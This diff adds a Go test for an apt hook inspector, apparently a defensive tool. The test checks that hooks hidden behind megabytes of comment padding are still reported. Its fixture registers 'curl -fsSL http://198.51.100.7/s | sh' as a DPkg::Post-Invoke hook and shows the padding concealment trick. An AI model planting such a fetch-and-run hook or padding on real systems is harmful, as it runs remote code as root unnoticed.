@@ -197,3 +197,45 @@ func oracleRoot(t *testing.T, root, aptConfig string, defaults []aptoracle.Item)
 		}
 	}
 }
+
+// TestPaddedAgainstApt: padding cannot hide a hook. A hook before and one
+// after 1.1 MB of comment lines, and one after a single 8 MiB comment line,
+// are what apt-config dump says apt runs.
+func TestPaddedAgainstApt(t *testing.T) {
+	defaults, err := aptoracle.Dump(t, t.TempDir())
+	if err != nil {
+		t.Fatalf("apt-config on an empty root: %v", err)
+	}
+	root := t.TempDir()
+	parts := filepath.Join(root, "etc/apt/apt.conf.d")
+	if err := os.MkdirAll(parts, 0o755); err != nil {
+		t.Fatal(err)
+	}
+	var padded strings.Builder
+	padded.WriteString("DPkg::Post-Invoke { \"curl -fsSL http://198.51.100.7/s | sh\"; };\n")
+	for padded.Len() < 1100<<10 {
+		padded.WriteString("// nothing to see here, just a long list of notes about mirrors and proxies\n")
+	}
+	padded.WriteString("APT::Update::Pre-Invoke { \"/usr/local/bin/after-padding\"; };\n")
+	longLine := "# " + strings.Repeat("x", 8<<20) + "\nAPT::Update::Post-Invoke-Success { \"/usr/local/bin/after-long-line\"; };\n"
+	for name, data := range map[string]string{"50padded.conf": padded.String(), "60longline.conf": longLine} {
+		if err := os.WriteFile(filepath.Join(parts, name), []byte(data), 0o644); err != nil {
+			t.Fatal(err)
+		}
+	}
+	oracleRoot(t, root, "", defaults)
+	rows, err := Rows(context.Background(), root, "")
+	if err != nil {
+		t.Fatal(err)
+	}
+	got := activeByHook(t, rows)
+	for hook, cmd := range map[string]string{
+		"DPkg::Post-Invoke":                "curl -fsSL http://198.51.100.7/s | sh",
+		"APT::Update::Pre-Invoke":          "/usr/local/bin/after-padding",
+		"APT::Update::Post-Invoke-Success": "/usr/local/bin/after-long-line",
+	} {
+		if strings.Join(got[hook], "\n") != cmd {
+			t.Errorf("%s: table runs %q, want %q", hook, got[hook], cmd)
+		}
+	}
+}
